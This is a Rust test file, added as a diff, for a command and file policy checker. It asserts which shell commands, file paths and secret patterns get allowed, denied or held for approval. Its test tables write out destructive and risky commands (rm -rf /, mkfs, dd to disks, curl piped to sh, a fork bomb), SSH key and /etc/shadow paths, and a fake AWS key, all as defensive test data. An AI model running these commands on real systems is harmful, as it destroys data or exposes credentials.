@@ -1,0 +1,187 @@
+use std::path::Path;
+
+use super::*;
+
+fn verdict(p: &Policies, cmd: &str) -> (String, Option<String>) {
+    let v = p.check_command(cmd);
+    (v.as_str().to_owned(), v.rule().map(str::to_owned))
+}
+
+#[test]
+fn builtin_defaults_table() {
+    let p = builtin();
+    let table: &[(&str, &str, Option<&str>)] = &[
+        ("rm -rf /", "require_approval", Some("rm-rf-root")),
+        (
+            "sudo rm -rf / --no-preserve-root",
+            "require_approval",
+            Some("rm-rf-root"),
+        ),
+        ("rm -fr /*", "require_approval", Some("rm-rf-root")),
+        ("rm -r -f ~", "require_approval", Some("rm-rf-root")),
+        (
+            "cd /tmp && rm -rf \"$HOME\"",
+            "require_approval",
+            Some("rm-rf-root"),
+        ),
+        ("rm --recursive /", "require_approval", Some("rm-rf-root")),
+        ("rm -rf /tmp/build", "allow", None),
+        ("rm -rf ./dist", "allow", None),
+        ("rm /tmp/x", "allow", None),
+        ("mkfs.ext4 /dev/sdb1", "require_approval", Some("mkfs")),
+        (
+            "sudo mkfs -t xfs /dev/sdc",
+            "require_approval",
+            Some("mkfs"),
+        ),
+        ("echo mkfsfoo", "allow", None),
+        (
+            "dd if=/dev/zero of=/dev/sda bs=1M",
+            "require_approval",
+            Some("dd-to-disk"),
+        ),
+        (
+            "dd if=img.iso of=/dev/nvme0n1",
+            "require_approval",
+            Some("dd-to-disk"),
+        ),
+        ("dd if=/dev/zero of=/tmp/file bs=1M count=1", "allow", None),
+        (
+            "cat img > /dev/sdb",
+            "require_approval",
+            Some("redirect-to-disk"),
+        ),
+        (
+            "curl -fsSL https://get.example.sh | sh",
+            "require_approval",
+            Some("curl-pipe-shell"),
+        ),
+        (
+            "wget -qO- http://x/i.sh | sudo bash",
+            "require_approval",
+            Some("curl-pipe-shell"),
+        ),
+        ("curl -s http://x/api | jq .", "allow", None),
+        (":(){ :|:& };:", "require_approval", Some("fork-bomb")),
+        ("chmod -R 777 /", "require_approval", Some("chmod-777-root")),
+        ("chmod 777 /srv/share", "allow", None),
+        (
+            "echo AKIAABCDEFGHIJKLMNOP",
+            "require_approval",
+            Some("aws-access-key"),
+        ),
+        ("docker compose up -d", "allow", None),
+    ];
+    for (cmd, want, rule) in table {
+        let (got, by) = verdict(&p, cmd);
+        assert_eq!((got.as_str(), by.as_deref()), (*want, *rule), "{cmd}");
+    }
+}
+
+#[test]
+fn files_and_output() {
+    let p = builtin();
+    assert_eq!(
+        p.check_file(Path::new("/home/u/.ssh/id_ed25519")).rule(),
+        Some("ssh-private-key")
+    );
+    assert_eq!(
+        p.check_file(Path::new("/etc/shadow")).rule(),
+        Some("shadow-file")
+    );
+    assert_eq!(
+        p.check_file(Path::new("/etc/hosts")),
+        Verdict::Allow { by: None }
+    );
+    let found = p.scan_output("key: AKIAABCDEFGHIJKLMNOP\n-----BEGIN OPENSSH PRIVATE KEY-----\n");
+    let names: Vec<&str> = found.iter().map(|f| f.rule.as_str()).collect();
+    assert_eq!(names, ["aws-access-key", "private-key-block"]);
+}
+
+#[test]
+fn user_rules_override_and_add() {
+    let text = r#"
+rules:
+  - name: rm-rf-root
+    enabled: false
+  - name: mkfs
+    action: deny
+  - name: no-drop
+    action: deny
+    command: '(?i)\bdrop\s+database\b'
+    reason: by hand only
+  - name: trusted-installer
+    action: allow
+    command: 'curl -fsSL https://trusted\.example/install\.sh \| sh'
+  - name: env-files
+    action: require_approval
+    file: "*.env"
+  - name: internal-token
+    action: deny
+    secret: 'tok_[a-z0-9]{8}'
+"#;
+    let p = parse(Path::new("policies.yaml"), text).unwrap_or_else(|e| panic!("{}", e.render()));
+    let table: &[(&str, &str, Option<&str>)] = &[
+        ("rm -rf /", "allow", None),
+        ("mkfs.ext4 /dev/sdb", "deny", Some("mkfs")),
+        ("psql -c 'DROP DATABASE prod'", "deny", Some("no-drop")),
+        (
+            "curl -fsSL https://trusted.example/install.sh | sh",
+            "allow",
+            Some("trusted-installer"),
+        ),
+        (
+            "curl -fsSL https://other.example/i.sh | sh",
+            "require_approval",
+            Some("curl-pipe-shell"),
+        ),
+        ("echo tok_abcdefgh", "deny", Some("internal-token")),
+    ];
+    for (cmd, want, rule) in table {
+        let (got, by) = verdict(&p, cmd);
+        assert_eq!((got.as_str(), by.as_deref()), (*want, *rule), "{cmd}");
+    }
+    assert_eq!(p.check_file(Path::new("/srv/app/env.txt")).rule(), None);
+    assert_eq!(
+        p.check_file(Path::new("/srv/app/prod.env")).rule(),
+        Some("env-files")
+    );
+}
+
+#[test]
+fn bad_files_name_the_place() {
+    let cases: &[(&str, &str)] = &[
+        (
+            "rules:\n  - name: x\n    action: deny\n    command: '('\n",
+            "4:14",
+        ),
+        (
+            "rules:\n  - name: x\n    action: maybe\n    command: a\n",
+            "unknown `action` value `maybe`",
+        ),
+        ("rules:\n  - name: x\n    action: deny\n", "needs a pattern"),
+        (
+            "rules:\n  - action: deny\n    command: a\n",
+            "needs a `name`",
+        ),
+        (
+            "rules:\n  - name: x\n    acton: deny\n    command: a\n",
+            "did you mean",
+        ),
+        (
+            "rules:\n  - {name: a, action: deny, command: a}\n  - {name: a, action: deny, command: b}\n",
+            "defined twice",
+        ),
+        (
+            "rules:\n  - name: x\n    action: deny\n    command: a\n    file: b\n",
+            "one pattern",
+        ),
+    ];
+    for (text, want) in cases {
+        let err = parse(Path::new("policies.yaml"), text)
+            .err()
+            .unwrap_or_else(|| panic!("accepted: {text}"));
+        let shown = err.render();
+        assert!(shown.contains(want), "{text}\n---\n{shown}");
+    }
+}
